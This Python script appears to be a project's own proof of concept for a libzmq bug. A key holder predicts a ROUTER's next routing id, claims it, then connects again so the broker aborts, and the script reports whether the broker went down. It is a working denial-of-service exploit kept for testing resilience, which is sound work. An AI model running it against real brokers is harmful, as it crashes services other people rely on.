"""A holder of a valid key who stops the broker: a bug of libzmq, by which no broker of ours may lose
more than the moment until its parent has started it again.

A ROUTER gives its peers numbers, each one more than the last. Who takes the next number as a routing
id of his own leaves it none to give: libzmq aborts when the next peer comes. ::

    python abort_by_key_holder.py < JOIN_STRING [NEXT_ID]

The id, in hexadecimal, is by default the one that the first peer gets in a process that has made two
ROUTERs, as a broker does, and has not made its numbers unpredictable, as `open_listener` does. Ends
with status 0 when the broker is gone, with 1 if it still serves.
"""

import secrets
import sys
import time

import zmq

from maelstrom_core.transport.join_plan import Join, parse_join
from maelstrom_core.transport.keys import pair_of
from maelstrom_core.transport.limits import Limits
from maelstrom_core.transport.options import client_socket

_SECONDS = 3.0
_HEAD_START_SECONDS = 0.3


def predicted() -> bytes:
    """The routing id that the first peer of the second ROUTER of a process gets."""
    context: zmq.Context[zmq.Socket[bytes]] = zmq.Context()
    context.socket(zmq.ROUTER)
    router, dealer = context.socket(zmq.ROUTER), context.socket(zmq.DEALER)
    address = f"inproc://{secrets.token_hex(8)}"
    router.bind(address)
    dealer.connect(address)
    dealer.send(b"which am I?")
    routing_id = router.recv()
    context.destroy(linger=0)
    return routing_id


def attack(join: Join, routing_id: bytes) -> bool:
    """Take this routing id, then come as somebody else.

    :return: whether the broker is gone
    """
    context: zmq.Context[zmq.Socket[bytes]] = zmq.Context()
    sockets, monitors = [], []
    for own_id in (routing_id, None):
        socket = client_socket(context, pair_of(join.secret_key), join.broker_key, Limits())
        sockets.append(socket)
        if own_id is not None:
            socket.setsockopt(zmq.ROUTING_ID, own_id)
        kinds = zmq.EVENT_HANDSHAKE_SUCCEEDED | zmq.EVENT_DISCONNECTED
        monitors.append(socket.get_monitor_socket(kinds))
        socket.connect(f"tcp://{join.address}")
        socket.sndtimeo = round(_SECONDS * 1000)
        socket.send(b"I am here")
        time.sleep(_HEAD_START_SECONDS)
    until, cut = time.monotonic() + _SECONDS, set()
    while len(cut) < len(monitors) and time.monotonic() < until:
        for monitor in monitors:
            while monitor.poll(20):
                kind = int.from_bytes(monitor.recv_multipart()[0][:2], sys.byteorder)
                (cut.add if kind == zmq.EVENT_DISCONNECTED else cut.discard)(monitor)
    context.destroy(linger=0)
    return len(cut) == len(monitors)


def main() -> int:
    join = parse_join(sys.stdin.read())
    own_id = bytes.fromhex(sys.argv[1]) if len(sys.argv) > 1 else predicted()
    return 0 if attack(join, own_id) else 1


if __name__ == "__main__":
    sys.exit(main())
